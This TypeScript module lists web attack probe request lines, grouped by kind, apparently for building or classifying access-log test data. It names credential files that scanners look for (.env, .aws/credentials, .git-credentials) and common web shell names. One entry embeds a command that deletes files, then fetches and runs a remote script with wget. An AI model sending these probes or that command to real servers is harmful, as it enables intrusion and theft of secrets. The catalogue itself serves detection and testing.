/** What web attackers ask for, by the kind of attempt: request lines as they stand between the quotes of an access log. */

export interface Probe {
  readonly request: string;
  /** Whether the server sees through it at once (400) or looks for the file and finds none (404). */
  readonly malformed: boolean;
}

const FOLDERS = [
  '',
  '/blog',
  '/web',
  '/wordpress',
  '/website',
  '/wp',
  '/news',
  '/2018',
  '/2019',
  '/shop',
  '/test',
  '/media',
  '/site',
  '/cms',
  '/sito',
  '/old',
];

const WORDPRESS: readonly Probe[] = [
  ...FOLDERS.map((folder) => found(`GET /${folder}/wp-includes/wlwmanifest.xml`)),
  ...gets('//xmlrpc.php?rsd', '/wp-login.php', '/wp-admin/setup-config.php', '/wp-admin/install.php'),
  found('POST /wp-login.php'),
  found('POST /xmlrpc.php'),
  ...gets(
    '/wp-content/plugins/wp-file-manager/readme.txt',
    '/wp-json/wp/v2/users',
    '/?author=1',
    '/wp-content/plugins/revslider/readme.txt',
    '/blog/wp-login.php',
    '/wordpress/wp-admin/setup-config.php?step=1',
    '/wp-config.php.bak',
  ),
];

const PHPMYADMIN_FOLDERS = [
  'phpmyadmin',
  'phpMyAdmin',
  'PhpMyAdmin',
  'myadmin',
  'db/phpmyadmin',
  'phpmyadmin2',
  'admin/phpmyadmin',
  'phpMyAdmin-5.2.1',
  'web/phpMyAdmin',
  'mysqladmin',
];

const PHPUNIT_FOLDERS = ['', '/lib', '/laravel', '/www', '/app', '/api', '/admin', '/cms', '/crm', '/demo', '/public'];

export const PROBES: ReadonlyMap<string, readonly Probe[]> = new Map([
  ['web.probe.wordpress', WORDPRESS],
  [
    'web.probe.git',
    gets(
      '/.git/config',
      '/.git/HEAD',
      '/.gitlab-ci.yml',
      '/.git/index',
      '/api/.git/config',
      '/app/.git/config',
      '/.git/logs/HEAD',
      '/backend/.git/config',
      '/.gitignore',
      '/.git-credentials',
    ),
  ],
  [
    'web.probe.env',
    gets(
      '/.env',
      '/.aws/config',
      '/.aws/credentials',
      '/api/.env',
      '/.env.production',
      '/app/.env',
      '/backend/.env',
      '/.env.bak',
      '/laravel/.env',
      '/admin/.env',
      '/.env.local',
      '/public/.env',
      '/core/.env',
    ),
  ],
  ['web.probe.phpmyadmin', PHPMYADMIN_FOLDERS.map((folder) => found(`GET /${folder}/index.php?lang=en`))],
  [
    'web.probe.phpunit',
    PHPUNIT_FOLDERS.map((folder) => found(`POST ${folder}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`)),
  ],
  [
    'web.probe.cms',
    gets(
      '/administrator/index.php',
      '/joomla/administrator/index.php',
      '/magento_version',
      '/typo3/index.php',
      '/CHANGELOG.txt',
      '/core/install.php',
      '/app/etc/local.xml',
    ),
  ],
  [
    'web.probe.admin',
    gets(
      '/manager/html',
      '/actuator/env',
      '/solr/admin/info/system',
      '/boaform/admin/formLogin',
      '/server-status',
      '/phpinfo.php',
      '/owa/auth/logon.aspx',
      '/remote/login',
      '/cgi-bin/luci/',
    ),
  ],
  [
    'web.probe.shell',
    gets(
      '/shell.php',
      '/alfa.php',
      '/c99.php',
      '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/a.sh;sh+a.sh',
      '/wso.php',
      '/cmd.php',
      '/r57.php',
    ),
  ],
  [
    'web.probe.proxy',
    [
      bad('CONNECT proxy-check.example:443 HTTP/1.1'),
      bad('CONNECT 192.0.2.200:25 HTTP/1.1'),
      bad('CONNECT www.example.com:443 HTTP/1.1'),
    ],
  ],
  [
    'web.protocol',
    [
      bad('\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03'),
      bad('SSH-2.0-Go'),
      bad('\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr'),
      bad('OPTIONS sip:nm SIP/2.0'),
      bad('\\x05\\x01\\x00'),
      bad(
        '\\x00\\x1E\\x00\\x06\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07version\\x04bind\\x00\\x00\\x10\\x00\\x03',
      ),
      bad('\\x16\\x03\\x02\\x01o\\x01\\x00\\x01k\\x03\\x02'),
    ],
  ],
  [
    'web.request',
    [
      bad('GET / HTTP/1.1'),
      bad('GET /login.html HTTP/1.0'),
      bad('HEAD / HTTP/1.1'),
      bad('GET /a%00b HTTP/1.1'),
      bad('GET index.html HTTP/1.1'),
    ],
  ],
]);

function gets(...paths: readonly string[]): Probe[] {
  return paths.map((path) => found(`GET ${path}`));
}

function found(methodAndPath: string): Probe {
  return { request: `${methodAndPath} HTTP/1.1`, malformed: false };
}

function bad(request: string): Probe {
  return { request, malformed: true };
}
